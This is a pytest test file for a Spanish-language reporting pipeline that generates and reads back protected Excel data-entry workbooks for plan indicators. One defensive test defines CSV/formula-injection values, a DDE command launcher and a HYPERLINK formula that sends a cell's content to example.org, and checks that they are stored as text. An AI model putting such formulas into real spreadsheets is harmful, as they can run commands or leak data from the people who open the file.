"""pipeline/workbooks/template.py, pipeline/workbooks/template_files.py and `pei-report plantilla`: the data-entry
workbook of a cut, read back with openpyxl, returned filled through the seguimiento reader, and
opened and saved by LibreOffice."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from pipeline.app.cli import app
from pipeline.errors import InputError
from pipeline.core.fingerprint import plan_fingerprint
from pipeline.ingest import load_execution
from pipeline.ingest.execution import read_execution
from pipeline.ingest.plan import load_plan
from pipeline.core.periods import Cut
from pipeline.workbooks.template import HEADER_ROW, build_template
from pipeline.workbooks.template_files import template_path, write_templates
from pipeline.ingest.template_schema import DATA_SHEET, IDENTITY_SHEET, INSTRUCTIONS_SHEET
from tests.plans import write_pdm

CUT = Cut(2024, 3)
# The PDM's 2024 execution without the third quarter: what the office has before the template goes out.
BEFORE_T3 = """indicador,anio,trimestre,valor
V-1,2024,1,1
V-1,2024,2,1.5
H-1,2024,1,21
H-1,2024,2,22
P-1,2024,1,5
P-1,2024,2,6
"""

runner = CliRunner()


@pytest.fixture
def pdm_folder(tmp_path: Path) -> Path:
    """A PDM entity (ejes, units, levels, responsables) with 2024-T1 and T2 reported."""
    return write_pdm(tmp_path / "inputs" / "pdm", 2024, BEFORE_T3)


@pytest.fixture
def template(pdm_folder: Path, tmp_path: Path) -> Path:
    """The PDM's 2024-T3 template, as `pei-report plantilla` writes it."""
    (path,) = write_templates(pdm_folder, "2024-T3", tmp_path / "outputs").files
    return path


def _rows_by_id(sheet) -> dict[str, int]:
    return {sheet.cell(r, 1).value: r for r in range(HEADER_ROW + 1, sheet.max_row + 1) if sheet.cell(r, 1).value}


def _columns(sheet) -> dict[str, int]:
    return {sheet.cell(HEADER_ROW, c).value: c for c in range(1, sheet.max_column + 1)}


def fill(path: Path, values: dict[str, object], comments: dict[str, str] | None = None, formats: dict[str, str] | None = None) -> Path:
    """Type values (and comments) into a template's unlocked cells, as a dependency would."""
    book = load_workbook(path)
    sheet = book[DATA_SHEET]
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    value_col, comment_col = columns[f"Valor ({CUT})"], columns[f"Comentario ({CUT})"]
    for ind, value in values.items():
        cell = sheet.cell(rows[ind], value_col)
        assert cell.protection.locked is False
        cell.value = value
        if formats and ind in formats:
            cell.number_format = formats[ind]
    for ind, text in (comments or {}).items():
        sheet.cell(rows[ind], comment_col).value = text
    book.save(path)
    return path


# --- one column schema -------------------------------------------------------------------------


def test_a_filled_template_reads_without_unrecognised_column_warnings(template):
    fill(template, {"V-1": 3, "H-1": 24, "P-1": 6}, {"V-1": "Tramo norte terminado."})
    raw = read_execution(template)
    assert raw.warnings == ()
    assert raw.periods is None  # the earlier quarters' columns are not read as a wide matrix
    assert raw.template is not None and raw.template.cut == "2024-T3"


# --- what the workbook offers ------------------------------------------------------------------


def test_value_cells_validate_a_number_not_negative_and_0_to_100_for_percentages(template):
    book = load_workbook(template)
    sheet = book[DATA_SHEET]
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    value_letter = sheet.cell(HEADER_ROW, columns[f"Valor ({CUT})"]).column_letter
    rules = {}
    for rule in sheet.data_validations.dataValidation:
        for ind, row in rows.items():
            if f"{value_letter}{row}" in rule.sqref:
                rules[ind] = rule
    assert set(rules) == {"V-1", "H-1", "P-1"}
    for ind, rule in rules.items():
        assert (rule.type, rule.errorStyle, rule.allow_blank) == ("decimal", "stop", True), ind
        assert rule.showErrorMessage and rule.showInputMessage, ind
        assert len(rule.promptTitle) <= 32 and len(rule.errorTitle) <= 32 and len(rule.prompt) <= 255, ind
        assert rule.errorTitle == "Valor no válido"
    percent = rules["P-1"]
    assert (percent.operator, percent.formula1, percent.formula2) == ("between", "0", "100")
    assert "Escriba 45 para 45 %" in percent.prompt and "de 0 a 100" in percent.error
    for ind in ("V-1", "H-1"):
        assert (rules[ind].operator, rules[ind].formula1) == ("greaterThanOrEqual", "0"), ind
        assert "mayor o igual que 0" in rules[ind].error
    assert "solo en ese trimestre" in rules["V-1"].prompt and "km" in rules["V-1"].prompt  # suma: the quarter's own
    assert "nivel alcanzado al cierre" in rules["H-1"].prompt and "hectáreas" in rules["H-1"].prompt  # a level
    assert sheet.cell(rows["P-1"], columns[f"Valor ({CUT})"]).number_format == "General"  # points, not a percent format


def test_the_sheet_is_protected_without_password_and_only_value_and_comment_cells_are_unlocked(template):
    book = load_workbook(template)
    assert book.security.lockStructure and not book.security.workbookPassword
    sheet = book[DATA_SHEET]
    assert sheet.protection.sheet and not sheet.protection.password
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    editable = {(r, columns[f"Valor ({CUT})"]) for r in rows.values()} | {(r, columns[f"Comentario ({CUT})"]) for r in rows.values()}
    for row in sheet.iter_rows(min_row=1, max_row=sheet.max_row, max_col=sheet.max_column):
        for cell in row:
            assert cell.protection.locked is ((cell.row, cell.column) not in editable), cell.coordinate
    assert book[INSTRUCTIONS_SHEET].protection.sheet


def test_layout_frozen_header_widths_wrapping_and_a4_landscape_print(template):
    sheet = load_workbook(template)[DATA_SHEET]
    columns = _columns(sheet)
    assert sheet.freeze_panes == f"D{HEADER_ROW + 1}"  # header row and id, label and name stay in view
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize), int(setup.fitToWidth), int(setup.fitToHeight)) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert sheet.print_area == f"'{DATA_SHEET}'!$A$1:${sheet.cell(1, sheet.max_column).column_letter}${sheet.max_row}"
    name_col = columns["Nombre del indicador"]
    assert sheet.column_dimensions[sheet.cell(1, name_col).column_letter].width >= 30
    v1 = _rows_by_id(sheet)["V-1"]
    assert sheet.cell(v1, name_col).alignment.wrap_text


def test_rows_are_as_tall_as_their_wrapped_text(sample_copy, tmp_path):
    """Neither Excel nor LibreOffice sizes a row a program wrote: a long name gets its lines."""
    (path,) = write_templates(sample_copy, "2024-T3", tmp_path / "out").files
    sheet = load_workbook(path)[DATA_SHEET]
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    name_width = sheet.column_dimensions[sheet.cell(1, columns["Nombre del indicador"]).column_letter].width
    for ind, row in rows.items():
        name = sheet.cell(row, columns["Nombre del indicador"]).value
        assert sheet.row_dimensions[row].height >= 11 * (len(name) // int(name_width * 2) + 1), ind
    short, long = rows["IS-514"], rows["IS-321"]  # "Política Pública TIC formulada" and a 200-character name
    assert sheet.row_dimensions[long].height > sheet.row_dimensions[short].height


def test_a_long_unit_never_makes_an_input_message_excel_refuses(pdm_folder):
    plan_file = pdm_folder / "plan.yaml"
    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace("unidad: km", "unidad: " + "kilómetros " * 20), encoding="utf-8")
    book = build_template(load_plan(pdm_folder), None, CUT, "pdm")
    assert all(len(rule.prompt or "") <= 255 for rule in book[DATA_SHEET].data_validations.dataValidation)


def test_the_hidden_sheet_names_entity_cut_and_plan(template, pdm_folder):
    book = load_workbook(template)
    assert book.sheetnames == [DATA_SHEET, INSTRUCTIONS_SHEET, IDENTITY_SHEET]
    identity = book[IDENTITY_SHEET]
    assert identity.sheet_state == "veryHidden"
    values = {row[0]: row[1] for row in identity.iter_rows(values_only=True)}
    assert values["entidad"] == "pdm" and values["corte"] == "2024-T3"
    assert values["plan"] == plan_fingerprint(load_plan(pdm_folder))


def test_rows_are_grouped_by_eje_and_objective_with_the_plan_and_earlier_quarters(template):
    sheet = load_workbook(template)[DATA_SHEET]
    columns = _columns(sheet)
    shown = [sheet.cell(r, 1).value or sheet.cell(r, 2).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
    assert shown == ["Eje E1", "Objetivo 1", "V-1", "Eje E2", "Objetivo 2", "H-1", "Objetivo 3", "P-1"]
    assert sheet.cell(HEADER_ROW + 1, 3).value == "Eje 1. Infraestructura"
    rows = _rows_by_id(sheet)

    def at(ind: str, heading: str):
        return sheet.cell(rows[ind], columns[heading]).value

    assert (at("V-1", "Reportado (2024-T1)"), at("V-1", "Reportado (2024-T2)")) == (1, 1.5)
    assert (at("H-1", "Reportado (2024-T2)"), at("H-1", "Línea base"), at("H-1", "Meta vigencia (2024)")) == (22, 20, 26)
    assert at("H-1", "Anualización") == "creciente (metas como nivel)" and at("H-1", "Unidad de medida") == "hectáreas"
    assert at("V-1", "Meta del trimestre (2024-T3)") == 3 and at("V-1", "Responsable") == "Secretaría de Infraestructura"
    assert (at("V-1", "Año"), at("V-1", "Trimestre"), at("V-1", f"Valor ({CUT})")) == (2024, 3, None)
    assert "Reportado (2024-T3)" not in columns


def test_an_indicator_serving_two_objectives_is_filled_in_once(sample_copy, tmp_path):
    (path,) = write_templates(sample_copy, "2024-T2", tmp_path / "out").files
    sheet = load_workbook(path)[DATA_SHEET]
    ids = [sheet.cell(r, 1).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
    assert ids.count("IS-543") == 1
    notes = [sheet.cell(r, 3).value for r in range(HEADER_ROW + 1, sheet.max_row + 1) if sheet.cell(r, 2).value == "IS-543"]
    assert notes and "se reporta en el objetivo 2" in notes[0]


def test_the_instructions_say_what_to_fill_levels_sums_and_the_deadline(pdm_folder, tmp_path):
    (pdm_folder / "configuracion.yaml").write_text("seguimiento:\n  plazo_dias: 15\n", encoding="utf-8")
    (path,) = write_templates(pdm_folder, "2024-T3", tmp_path / "out").files
    book = load_workbook(path)
    text = "\n".join(str(c.value) for c in book[INSTRUCTIONS_SHEET]["A"] if c.value)
    for fragment in ("suma: lo ejecutado en el trimestre", "el nivel alcanzado al cierre del trimestre", "metas como nivel",
                     "45 para 45 %", "15 de octubre de 2024", "Reportado (2024-T1)", "hoja oculta"):
        assert fragment in text, fragment
    assert "15 de octubre de 2024" in book[DATA_SHEET]["A2"].value


def test_a_fixed_deadline_of_an_earlier_quarter_is_not_written_and_is_told(pdm_folder, tmp_path):
    (pdm_folder / "configuracion.yaml").write_text("seguimiento:\n  fecha_limite: 2024-07-10\n", encoding="utf-8")
    written = write_templates(pdm_folder, "2024-T3", tmp_path / "out")
    assert "Plazo" not in load_workbook(written.files[0])[DATA_SHEET]["A2"].value
    assert "seguimiento.fecha_limite" in written.warnings[0]
    (pdm_folder / "configuracion.yaml").write_text("seguimiento:\n  fecha_limite: 2024-10-20\n", encoding="utf-8")
    written = write_templates(pdm_folder, "2024-T3", tmp_path / "out")
    assert "20 de octubre de 2024" in load_workbook(written.files[0])[DATA_SHEET]["A2"].value and not written.warnings


def test_por_responsable_writes_one_workbook_per_dependency_with_only_its_indicators(pdm_folder, tmp_path):
    out = tmp_path / "out"
    written = write_templates(pdm_folder, "2024-T3", out, per_dependency=True)
    folder = out / "pdm" / "plantillas" / "2024-T3"
    assert [p.name for p in written.files] == [
        "seguimiento-2024-T3-secretaria-de-infraestructura.xlsx", "seguimiento-2024-T3-secretaria-de-ambiente.xlsx",
        "seguimiento-2024-T3-sin-responsable.xlsx",
    ]
    assert all(p.parent == folder for p in written.files)
    for path, ind, who in zip(written.files, ["V-1", "H-1", "P-1"], ["Secretaría de Infraestructura", "Secretaría de Ambiente", "Sin responsable"]):
        book = load_workbook(path)
        assert list(_rows_by_id(book[DATA_SHEET])) == [ind], path.name
        assert "Responsable" not in _columns(book[DATA_SHEET])
        assert f"Dependencia: {who}" in book[DATA_SHEET]["A2"].value
        assert {r[0]: r[1] for r in book[IDENTITY_SHEET].iter_rows(values_only=True)}["responsable"] == who


# --- returned, filled ----------------------------------------------------------------------------


def test_a_filled_template_in_the_seguimiento_folder_is_consolidated_with_percent_and_text_cells(template, pdm_folder):
    fill(template, {"V-1": 3, "H-1": "24,5", "P-1": 0.06}, {"V-1": "Tramo norte."}, formats={"P-1": "0%"})
    folder = pdm_folder / "seguimiento"
    folder.mkdir()
    (pdm_folder / "seguimiento.csv").rename(folder / "anteriores.csv")
    shutil.copy(template, folder / template.name)
    table = load_execution(pdm_folder, load_plan(pdm_folder)).table
    t3 = table[table["trimestre"] == 3].set_index("indicador")
    assert t3["valor"].to_dict() == {"H-1": 24.5, "P-1": 6.0, "V-1": 3.0}
    assert t3.loc["V-1", "comentario"] == "Tramo norte."
    assert len(table) == 9  # the six earlier rows and the three new ones: the context columns are not data


def test_an_unfilled_template_is_no_data_and_a_comment_alone_is_a_quarter_not_reported(template, pdm_folder):
    plan = load_plan(pdm_folder)
    (pdm_folder / "seguimiento.csv").unlink()
    shutil.copy(template, pdm_folder / "seguimiento.xlsx")
    assert load_execution(pdm_folder, plan).table.empty
    fill(pdm_folder / "seguimiento.xlsx", {}, {"H-1": "Sin medición este trimestre."})
    table = load_execution(pdm_folder, plan).table
    assert list(table["indicador"]) == ["H-1"] and table["valor"].isna().all()


@pytest.mark.flow
@pytest.mark.usefixtures("prefect_harness")
def test_a_filled_template_returned_as_seguimiento_xlsx_gives_its_values_in_avance_csv(template, pdm_folder, tmp_path):
    fill(template, {"V-1": 3, "H-1": "24,5", "P-1": 0.06}, formats={"P-1": "0%"})
    folder = pdm_folder / "seguimiento"
    folder.mkdir()
    (pdm_folder / "seguimiento.csv").rename(folder / "anteriores.csv")
    shutil.copy(template, folder / template.name)
    out = tmp_path / "reportes"
    result = runner.invoke(
        app, ["run", "--input", str(pdm_folder), "--output", str(out), "--period", "2024-T3", "--no-distribute"],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.stderr
    with (out / "pdm" / "2024-T3" / "avance.csv").open(encoding="utf-8") as handle:
        rows = {r["indicador"]: r for r in csv.DictReader(handle)}
    # suma: 1 + 1,5 + 3; creciente, levels from a baseline of 20: 24,5 - 20; constante: the level, 6
    assert {i: float(r["ejecutado_vigencia"]) for i, r in rows.items()} == pytest.approx({"V-1": 5.5, "H-1": 4.5, "P-1": 6})
    assert "Aviso" not in result.stderr


def test_a_template_of_an_edited_plan_is_refused_saying_how_to_make_it_again(template, pdm_folder):
    fill(template, {"V-1": 3})
    (pdm_folder / "seguimiento.csv").unlink()
    shutil.copy(template, pdm_folder / "seguimiento.xlsx")
    plan_file = pdm_folder / "plan.yaml"
    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace("meta_cuatrienio: 40", "meta_cuatrienio: 42"), encoding="utf-8")
    with pytest.raises(InputError) as info:
        load_execution(pdm_folder, load_plan(pdm_folder))
    text = str(info.value)
    assert "seguimiento.xlsx" in text and "otra versión del plan" in text and "corte 2024-T3" in text
    assert f"pei-report plantilla --input {pdm_folder} --period 2024-T3" in text and "ya trae los valores" in text


def test_the_template_made_again_after_a_plan_edit_carries_the_returned_values(template, pdm_folder, tmp_path):
    """The command the refusal gives works with the refused file still in seguimiento/, and the
    new template already holds its values and comments: nothing is typed twice."""
    fill(template, {"V-1": 3, "H-1": 24}, {"V-1": "Tramo norte."})
    folder = pdm_folder / "seguimiento"
    folder.mkdir()
    (pdm_folder / "seguimiento.csv").rename(folder / "anteriores.csv")
    shutil.copy(template, folder / template.name)
    plan_file = pdm_folder / "plan.yaml"
    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace("Vías.", "Vías rurales."), encoding="utf-8")
    with pytest.raises(InputError):
        load_execution(pdm_folder, load_plan(pdm_folder))
    (again,) = write_templates(pdm_folder, "2024-T3", tmp_path / "otra").files
    sheet = load_workbook(again)[DATA_SHEET]
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    assert sheet.cell(rows["V-1"], columns[f"Valor ({CUT})"]).value == 3
    assert sheet.cell(rows["V-1"], columns[f"Comentario ({CUT})"]).value == "Tramo norte."
    assert sheet.cell(rows["H-1"], columns[f"Valor ({CUT})"]).value == 24
    shutil.copy(again, folder / template.name)  # the new one in place of the refused one
    t3 = load_execution(pdm_folder, load_plan(pdm_folder)).table.query("trimestre == 3").set_index("indicador")
    assert t3["valor"].to_dict() == {"V-1": 3.0, "H-1": 24.0}


def test_another_entitys_template_is_refused_saying_where_it_belongs(template, tmp_path):
    from tests.conftest import SAMPLE

    other = tmp_path / "inputs" / "secretaria-general"
    shutil.copytree(SAMPLE, other)
    (other / "seguimiento").mkdir()
    (other / "seguimiento.xlsx").rename(other / "seguimiento" / "historico.xlsx")
    shutil.copy(template, other / "seguimiento" / template.name)
    with pytest.raises(InputError) as info:
        load_execution(other, load_plan(other))
    text = str(info.value)
    assert "de otra entidad" in text and "carpeta pdm" in text and "Mueva el archivo" in text
    assert "ya no está en el plan" not in text


def _returned_after_roll_over(template: Path, pdm_folder: Path, edit=None) -> Path:
    """The 2024-T3 template filled and kept in seguimiento/ while the plan moves on to vigencia 2025
    (docs/oficina/entradas.md's «Cambio de vigencia»: the 2024 targets go to metas_anuales)."""
    fill(template, {"V-1": 3, "H-1": 24})
    folder = pdm_folder / "seguimiento"
    folder.mkdir()
    (pdm_folder / "seguimiento.csv").rename(folder / "anteriores.csv")
    shutil.copy(template, folder / template.name)
    with (pdm_folder / "plan.yaml").open("w", encoding="utf-8") as handle:
        from ruamel.yaml import YAML

        from tests.plans import pdm

        plan = pdm(2025)
        if edit:
            edit(plan)
        YAML().dump(plan, handle)
    return pdm_folder


def test_a_past_years_template_still_reads_after_the_yearly_roll_over(template, pdm_folder):
    """Rolling the plan over to a new vigencia edits it, but does not change what a past year's
    values mean: the templates returned that year stay in seguimiento/ and the cuts of that year
    can still be regenerated."""
    folder = _returned_after_roll_over(template, pdm_folder)
    plan = load_plan(folder)
    assert plan.vigencia == 2025
    table = load_execution(folder, plan).table
    t3 = table[(table["anio"] == 2024) & (table["trimestre"] == 3)].set_index("indicador")
    assert t3["valor"].to_dict() == {"V-1": 3.0, "H-1": 24.0}


def test_a_past_years_template_is_refused_when_an_indicator_changed_meaning(template, pdm_folder):
    def km_to_m(plan):
        (v1,) = [i for i in plan["indicadores"] if i["id"] == "V-1"]
        v1["unidad"] = "m"

    folder = _returned_after_roll_over(template, pdm_folder, km_to_m)
    with pytest.raises(InputError) as info:
        load_execution(folder, load_plan(folder))
    text = str(info.value)
    assert "otra versión del plan" in text and "V-1" in text and "unidad" in text and "km" in text


def test_rows_of_another_cut_in_a_template_are_refused(template, pdm_folder):
    fill(template, {"V-1": 3, "H-1": 24})
    book = load_workbook(template)
    sheet = book[DATA_SHEET]
    rows, columns = _rows_by_id(sheet), _columns(sheet)
    sheet.cell(rows["H-1"], columns["Trimestre"]).value = 2  # a script can write through the protection
    book.save(template)
    (pdm_folder / "seguimiento.csv").unlink()
    shutil.copy(template, pdm_folder / "seguimiento.xlsx")
    with pytest.raises(InputError) as info:
        load_execution(pdm_folder, load_plan(pdm_folder))
    text = str(info.value)
    assert f"fila {rows['H-1']}" in text and "plantilla del corte 2024-T3" in text and "--period 2024-T2" in text


def test_the_builder_is_pure_and_writes_values_only(pdm_folder):
    plan = load_plan(pdm_folder)
    book = build_template(plan, None, CUT, "pdm")
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            assert not any(isinstance(v, str) and v.startswith("=") for v in row)


# --- LibreOffice --------------------------------------------------------------------------------


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.skip("LibreOffice (soffice) is not installed here")
    return found


def test_libreoffice_opens_and_saves_a_filled_template_that_reads_back_unchanged(template, pdm_folder, tmp_path):
    soffice = _soffice()
    fill(template, {"V-1": 3, "H-1": "24,5", "P-1": 0.06}, {"V-1": "Tramo norte, 3 km."}, formats={"P-1": "0%"})
    plan = load_plan(pdm_folder)
    before = read_execution(template)
    converted = tmp_path / "lo"
    result = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(converted), str(template)],
        capture_output=True, text=True, timeout=120, env={**os.environ, "HOME": str(tmp_path)},
    )
    assert result.returncode == 0, result.stderr
    saved = converted / template.name
    after = read_execution(saved)
    assert after.template == before.template and after.warnings == ()
    (pdm_folder / "seguimiento.csv").unlink()
    shutil.copy(saved, pdm_folder / "seguimiento.xlsx")
    table = load_execution(pdm_folder, plan).table.set_index("indicador")
    assert table["valor"].to_dict() == {"H-1": 24.5, "P-1": 6.0, "V-1": 3.0}
    assert table.loc["V-1", "comentario"] == "Tramo norte, 3 km."
    book = load_workbook(saved)
    sheet = book[DATA_SHEET]
    assert sheet.protection.sheet and book[IDENTITY_SHEET].sheet_state in ("veryHidden", "hidden")
    assert any(rule.type == "decimal" for rule in sheet.data_validations.dataValidation)


# --- the command ---------------------------------------------------------------------------------


def test_the_command_writes_each_entitys_template_and_prints_the_files(pdm_folder, tmp_path):
    write_pdm(pdm_folder.parent / "otra", 2024, BEFORE_T3)
    out = tmp_path / "out"
    result = runner.invoke(app, ["plantilla", "--input", str(pdm_folder.parent), "--period", "2024T3", "--output", str(out)])
    assert result.exit_code == 0, result.stderr
    expected = [template_path(out, slug, CUT) for slug in ("otra", "pdm")]
    assert result.stdout.split() == [str(p) for p in expected]
    assert all(p.exists() for p in expected)
    assert not list(out.rglob(".*.xlsx*"))  # no temporary file left


def test_the_command_refuses_invalid_input_with_exit_2_and_writes_nothing(pdm_folder, tmp_path):
    out = tmp_path / "out"
    (pdm_folder / "seguimiento.csv").write_text("indicador,anio,trimestre,valor\nX-9,2024,1,5\n", encoding="utf-8")
    result = runner.invoke(app, ["plantilla", "--input", str(pdm_folder), "--period", "2024-T3", "--output", str(out)])
    assert result.exit_code == 2
    assert "Error" in result.stderr and "seguimiento.csv" in result.stderr and "«X-9»" in result.stderr
    assert "Traceback" not in result.stderr and not out.exists()
    (pdm_folder / "seguimiento.csv").write_text(BEFORE_T3, encoding="utf-8")
    outside = runner.invoke(app, ["plantilla", "--input", str(pdm_folder), "--period", "2030-T1", "--output", str(out)])
    assert outside.exit_code == 2 and "fuera del periodo del plan" in outside.stderr
    missing = runner.invoke(app, ["plantilla", "--input", str(pdm_folder), "--output", str(out)])
    assert missing.exit_code == 2 and "--period" in missing.stderr


def test_the_first_quarters_template_needs_no_seguimiento_yet(pdm_folder, tmp_path):
    (pdm_folder / "seguimiento.csv").unlink()
    result = runner.invoke(app, ["plantilla", "--input", str(pdm_folder), "--period", "2024-T1", "--output", str(tmp_path / "o"), "--por-responsable"])
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout.split()) == 3


def test_the_command_takes_one_entity_of_a_folder_of_entities(pdm_folder, tmp_path):
    from tests.conftest import SAMPLE

    shutil.copytree(SAMPLE, pdm_folder.parent / "secretaria-general")
    out = tmp_path / "salida"
    args = ["plantilla", "--input", str(pdm_folder.parent), "--period", "2024-T3", "--output", str(out)]
    result = runner.invoke(app, [*args, "--entity", "pdm"], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    assert [p.name for p in out.iterdir()] == ["pdm"]
    unknown = runner.invoke(app, [*args, "--entity", "otra"])
    assert unknown.exit_code == 2 and "otra" in unknown.stderr


# --- texts a spreadsheet would run ------------------------------------------------------------------

LINK = '=HYPERLINK("http://example.org/?d="&A1,"Ver detalle")'
COMMAND = "=cmd|' /C calc'!A0"


def _formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)  # formulas as written (not their saved results)
    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_texts_that_look_like_formulas_are_written_as_text_and_the_returned_template_reads_them_back(tmp_path):
    folder = write_pdm(tmp_path / "inputs" / "pdm", 2024, BEFORE_T3 + "V-1,2024,3,2\n")
    (folder / "seguimiento.csv").write_text(
        "indicador,anio,trimestre,valor,comentario\n" + BEFORE_T3.split("\n", 1)[1]
        + f'V-1,2024,3,2,"{COMMAND}"\n', encoding="utf-8",
    )
    plan = folder / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    text = text.replace("Kilómetros de vías terciarias mejorados", LINK.replace('"', '\\"').join('""'))
    text = text.replace("Secretaría de Infraestructura", f'"{COMMAND}"').replace("texto: Vías.", "texto: '=1+1'")
    plan.write_text(text, encoding="utf-8")
    whole = write_templates(folder, "2024-T3", tmp_path / "outputs").files
    by_dependency = write_templates(folder, "2024-T3", tmp_path / "por", per_dependency=True).files
    for path in (*whole, *by_dependency):
        assert _formula_cells(path) == [], path
    (path,) = whole
    sheet = load_workbook(path)[DATA_SHEET]
    columns, rows = _columns(sheet), _rows_by_id(sheet)
    assert sheet.cell(rows["V-1"], columns["Nombre del indicador"]).value == LINK
    assert sheet.cell(rows["V-1"], columns["Responsable"]).value == COMMAND
    assert sheet.cell(rows["V-1"], columns[f"Comentario ({CUT})"]).value == COMMAND
    for returned in (path, by_dependency[0]):  # returned unchanged: read back with the texts as texts
        shutil.copy(returned, folder / "seguimiento.xlsx")
        (folder / "seguimiento.csv").unlink(missing_ok=True)
        table = load_execution(folder, load_plan(folder)).table
        (comment,) = table.loc[(table["indicador"] == "V-1") & (table["trimestre"] == 3), "comentario"]
        assert comment == COMMAND


# --- the identity guards against slips ----------------------------------------------------------------


def _returned(path: Path, folder: Path) -> None:
    """`path` as the entity's only seguimiento."""
    (folder / "seguimiento.csv").unlink(missing_ok=True)
    shutil.copy(path, folder / "seguimiento.xlsx")


def test_a_dependencys_template_refuses_a_row_added_for_another_dependencys_indicator(pdm_folder, tmp_path):
    path = write_templates(pdm_folder, "2024-T3", tmp_path / "out", per_dependency=True).files[0]  # Infraestructura: V-1
    fill(path, {"V-1": 3})
    book = load_workbook(path)
    sheet = book[DATA_SHEET]
    columns, row = _columns(sheet), sheet.max_row + 1
    for heading, value in (("Indicador", "H-1"), ("Año", 2024), ("Trimestre", 3), (f"Valor ({CUT})", 24)):
        sheet.cell(row, columns[heading]).value = value
    book.save(path)
    _returned(path, pdm_folder)
    with pytest.raises(InputError) as info:
        load_execution(pdm_folder, load_plan(pdm_folder))
    text = str(info.value)
    assert f"fila {row}" in text and "«H-1»" in text and "Secretaría de Infraestructura" in text


def test_an_edited_hidden_sheet_is_refused_whatever_cut_it_says(tmp_path):
    """A 2025 template of an earlier version of the plan, its hidden cut and its rows changed to a
    year before the vigencia (where the roll-over exception would read it): refused, not read."""
    folder = write_pdm(tmp_path / "inputs" / "pdm", 2025)
    (path,) = write_templates(folder, "2025-T2", tmp_path / "out").files
    book = load_workbook(path)
    sheet, identity = book[DATA_SHEET], book[IDENTITY_SHEET]
    columns, rows = _columns(sheet), _rows_by_id(sheet)
    sheet.cell(rows["V-1"], columns["Valor (2025-T2)"]).value = 4
    sheet.cell(rows["V-1"], columns["Año"]).value = 2024
    sheet.cell(rows["V-1"], columns["Trimestre"]).value = 4
    for (cell, value) in identity.iter_rows(max_col=2):
        if cell.value == "corte":
            value.value = "2024-T4"
    book.save(path)
    plan = folder / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("Hectáreas en restauración", "Hectáreas restauradas"), encoding="utf-8")
    _returned(path, folder)
    with pytest.raises(InputError) as info:
        load_execution(folder, load_plan(folder))
    assert "hoja oculta" in str(info.value) and "pei-report plantilla" in str(info.value)


def test_a_template_without_its_hidden_sheet_is_refused_naming_its_cut(template, pdm_folder):
    fill(template, {"V-1": 3})
    book = load_workbook(template)
    book.remove(book[IDENTITY_SHEET])
    book.save(template)
    _returned(template, pdm_folder)
    with pytest.raises(InputError) as info:
        load_execution(pdm_folder, load_plan(pdm_folder))
    text = str(info.value)
    assert "sin su hoja oculta" in text and "«Valor (2024-T3)»" in text and "--period 2024-T3" in text


@pytest.mark.parametrize("left", [(), ("~$salud.xlsx", ".DS_Store")])
def test_an_empty_seguimiento_folder_is_one_still_waiting_for_its_files(pdm_folder, tmp_path, left):
    # The natural order: make the folder, send the templates out, collect the files in it.
    (pdm_folder / "seguimiento.csv").unlink()
    (pdm_folder / "seguimiento").mkdir()
    for name in left:  # what Excel and the file system leave there are no files of the seguimiento
        (pdm_folder / "seguimiento" / name).write_bytes(b"x")
    (path,) = write_templates(pdm_folder, "2024-T1", tmp_path / "out").files
    sheet = load_workbook(path)[DATA_SHEET]
    headings = [c.value for c in sheet[HEADER_ROW]]
    assert not any(str(h).startswith("Reportado") for h in headings if h)  # no earlier values
    values = [row[headings.index("Valor (2024-T1)")] for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
    assert not any(v is not None for v in values)


def test_a_seguimiento_folder_holding_only_a_book_that_cannot_be_read_is_still_refused(pdm_folder, tmp_path):
    (pdm_folder / "seguimiento.csv").unlink()
    (pdm_folder / "seguimiento").mkdir()
    (pdm_folder / "seguimiento" / "salud.xls").write_bytes(b"\xd0\xcf\x11\xe0" + b"0" * 100)
    with pytest.raises(InputError) as info:
        write_templates(pdm_folder, "2024-T1", tmp_path / "out")
    assert "salud.xls" in str(info.value)
